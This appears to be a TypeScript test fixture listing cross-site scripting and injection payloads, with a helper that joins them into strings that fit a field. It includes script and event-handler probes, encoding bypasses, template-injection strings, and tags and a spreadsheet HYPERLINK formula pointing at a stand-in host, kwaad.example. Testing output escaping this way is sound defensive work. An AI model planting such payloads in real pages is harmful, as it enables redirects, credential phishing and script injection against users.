/** Texts that become markup, an attribute or a script where a page forgets to write them as text; each under 100 characters. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<b>vet</b>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" autofocus onfocus=alert(1) x="',
  '"/><iframe src=javascript:alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</td></tr></table><form action=//kwaad.example>',
  '</p></div></main></body></html><script>1</script>',
  '--><script>alert(1)</script>',
  '<!--',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?>',
  '<!doctype html>',
  '<base href=//kwaad.example>',
  '<meta http-equiv=refresh content=0;url=//kwaad.example>',
  '<link rel=stylesheet href=//kwaad.example>',
  '<form action=//kwaad.example><button>',
  '<input name=_form value=x>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//kwaad.example/x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&quot; onclick=&quot;alert(1)',
  '&amp;lt;img src=x&amp;gt;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script>',
  '<plaintext>',
  '<img src=x onerror\u00a0=alert(1)>',
  '\u003cscript\u003e',
  '<ſcript>alert(1)</ſcript>',
  '＜script＞alert(1)＜/script＞',
  '<img """><script>alert(1)</script>">',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u202e<script>\u2066',
  "';alert(1)//",
  '\\"-alert(1)}//',
  '=HYPERLINK("http://kwaad.example")',
]

/** A few payloads to a text: none is cut off, and no text is longer than what the shortest column of a name holds. */
export const hostileTexts = (longest: number): string[] => {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < longest) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
